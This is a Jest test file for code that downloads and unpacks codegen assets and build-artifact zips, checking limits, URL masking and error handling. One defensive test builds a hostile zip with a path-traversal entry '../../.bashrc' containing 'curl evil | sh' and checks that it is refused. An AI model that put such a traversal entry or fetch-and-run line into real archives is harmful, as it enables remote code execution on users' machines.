import { afterEach, beforeEach, describe, expect, it } from '@jest/globals'
import { readdir, readFile } from 'node:fs/promises'
import * as path from 'node:path'
import { DownloadError, JobFailedError, UnsafeContentError } from '../../../src/errors.js'
import { stageCodegenAsset, stageZipFromUrl } from '../../../src/archives/asset.js'
import { createDownloader } from '../../../src/transfer/http.js'
import { ARTIFACT_LIMITS, CODEGEN_LIMITS } from '../../../src/archives/limits.js'
import { FakeStaging, errorOf, recordingSleep, startServer } from '../../helpers/fetch.js'
import type { TestServer } from '../../helpers/fetch.js'
import { rawZip, yazlZip } from './zip-builder.js'

let staging: FakeStaging
let server: TestServer
let downloader: ReturnType<typeof createDownloader>
/** What the server answers, by path. */
const routes = new Map<string, Buffer | string>()
let masked: string[]
const mask = (secret: string): void => {
  masked.push(secret)
}

beforeEach(async () => {
  staging = await FakeStaging.create()
  routes.clear()
  masked = []
  server = await startServer((req, res) => {
    const body = routes.get((req.url ?? '').split('?')[0] ?? '')
    if (body === undefined) res.writeHead(404).end()
    else res.end(body)
  })
  downloader = createDownloader({ sleep: recordingSleep().sleep, mask })
})

afterEach(async () => {
  downloader.close()
  await server.close()
  await staging.remove()
})

function manifest(files: Record<string, string>): string {
  for (const [name, content] of Object.entries(files)) routes.set(`/files/${name}`, content)
  return JSON.stringify({
    Output: Object.keys(files).map(name => ({ fileName: name, schemaName: name.split('.')[0], downloadUrl: server.url(`/files/${name}`), error: null }))
  })
}

describe('stageCodegenAsset', () => {
  it('follows a manifest: downloads each file and leaves scratch empty', async () => {
    routes.set('/asset', manifest({ 'Button.jsx': 'button', 'Button.d.ts': 'types', 'index.js': 'index' }))
    const staged = await stageCodegenAsset(server.url('/asset'), staging, downloader, { limits: CODEGEN_LIMITS })
    expect(staged.map(f => f.path).sort()).toEqual(['Button.d.ts', 'Button.jsx', 'index.js'])
    expect(await readFile(path.join(staging.root, 'Button.jsx'), 'utf8')).toBe('button')
    expect(await readdir(staging.scratch)).toEqual([])
    expect(masked).toContain(server.url('/asset'))
    expect(masked).toContain(server.url('/files/index.js'))
  })

  it('unpacks a zip, as older service versions delivered', async () => {
    routes.set(
      '/asset',
      await yazlZip([
        { name: 'Button.jsx', data: 'button' },
        { name: 'index.js', data: 'index' }
      ])
    )
    const staged = await stageCodegenAsset(server.url('/asset'), staging, downloader, { limits: CODEGEN_LIMITS })
    expect(staged.map(f => f.path).sort()).toEqual(['Button.jsx', 'index.js'])
    expect(await staging.written()).toEqual(['Button.jsx', 'index.js'])
    expect(await readdir(staging.scratch)).toEqual([])
  })

  it('accepts an empty zip', async () => {
    const empty = rawZip([])
    expect(empty.subarray(0, 4).toString('latin1')).toBe('PK\x05\x06')
    routes.set('/asset', empty)
    expect(await stageCodegenAsset(server.url('/asset'), staging, downloader, { limits: CODEGEN_LIMITS })).toEqual([])
  })

  it('refuses a hostile zip asset', async () => {
    routes.set('/asset', rawZip([{ name: '../../.bashrc', data: 'curl evil | sh' }]))
    const error = await errorOf(stageCodegenAsset(server.url('/asset'), staging, downloader, { limits: CODEGEN_LIMITS }))
    expect(error).toBeInstanceOf(UnsafeContentError)
    expect(await staging.written()).toEqual([])
  })

  it('refuses an asset that is neither a zip nor a manifest of readable size', async () => {
    routes.set('/asset', 'x'.repeat(200))
    const limits = { ...CODEGEN_LIMITS, maxDocumentBytes: 100 }
    const error = await errorOf(stageCodegenAsset(server.url('/asset'), staging, downloader, { limits }))
    expect(error).toBeInstanceOf(UnsafeContentError)
    expect(error.message).toMatch(/neither a zip nor a file list small enough to read \(200 bytes, at most 100/)
    expect(await readdir(staging.scratch)).toEqual([])
  })

  it('says so when the asset is neither a zip nor JSON', async () => {
    routes.set('/asset', '<html>maintenance</html>')
    const error = await errorOf(stageCodegenAsset(server.url('/asset'), staging, downloader, { limits: CODEGEN_LIMITS }))
    expect(error).toBeInstanceOf(DownloadError)
    expect(error.message).toMatch(/not valid JSON/)
  })

  it('reports failed components from the manifest and downloads nothing', async () => {
    routes.set('/asset', JSON.stringify({ Output: [{ fileName: 'Hero.jsx', schemaName: 'Hero', error: 'bad binding' }] }))
    const error = await errorOf(stageCodegenAsset(server.url('/asset'), staging, downloader, { limits: CODEGEN_LIMITS }))
    expect(error).toBeInstanceOf(JobFailedError)
    expect(server.requests).toEqual(['/asset'])
  })

  it('the downloader masks the asset URL before requesting it', async () => {
    let maskedAtRequest = -1
    const s = await startServer((_req, res) => {
      maskedAtRequest = masked.length
      res.end('{"Output":[]}')
    })
    try {
      await stageCodegenAsset(s.url('/asset'), staging, downloader, { limits: CODEGEN_LIMITS })
      expect(maskedAtRequest).toBeGreaterThan(0)
      expect(masked).toContain(s.url('/asset'))
    } finally {
      await s.close()
    }
  })
})

describe('stageZipFromUrl', () => {
  it('downloads build artifacts into scratch, unpacks them and removes the archive', async () => {
    routes.set(
      '/artifacts.zip',
      await yazlZip([
        { name: 'index.html', data: '<html>' },
        { name: 'static/app.js', data: 'app' }
      ])
    )
    const staged = await stageZipFromUrl(server.url('/artifacts.zip'), staging, downloader, {
      limits: ARTIFACT_LIMITS,
      what: 'the build artifacts of job 7'
    })
    expect(staged.map(f => f.path).sort()).toEqual(['index.html', 'static/app.js'])
    expect(await readdir(staging.scratch)).toEqual([])
    expect(masked).toContain(server.url('/artifacts.zip'))
  })

  it('names the artifacts in its errors', async () => {
    routes.set('/artifacts.zip', 'not a zip at all')
    const error = await errorOf(
      stageZipFromUrl(server.url('/artifacts.zip'), staging, downloader, { limits: ARTIFACT_LIMITS, what: 'the build artifacts of job 7' })
    )
    expect(error).toBeInstanceOf(UnsafeContentError)
    expect(error.message).toMatch(/the build artifacts of job 7: it is not a valid zip archive/)
    expect(await readdir(staging.scratch)).toEqual([])
  })

  it('refuses an archive larger than the limits allow, by its declared length', async () => {
    routes.set('/artifacts.zip', Buffer.alloc(5000))
    const limits = { maxFiles: 1, maxTotalBytes: 10, maxDocumentBytes: 10 }
    const error = await errorOf(stageZipFromUrl(server.url('/artifacts.zip'), staging, downloader, { limits, what: 'the build artifacts' }))
    expect(error).toBeInstanceOf(UnsafeContentError)
    expect(error.message).toMatch(/it is 5000 bytes/)
  })
})
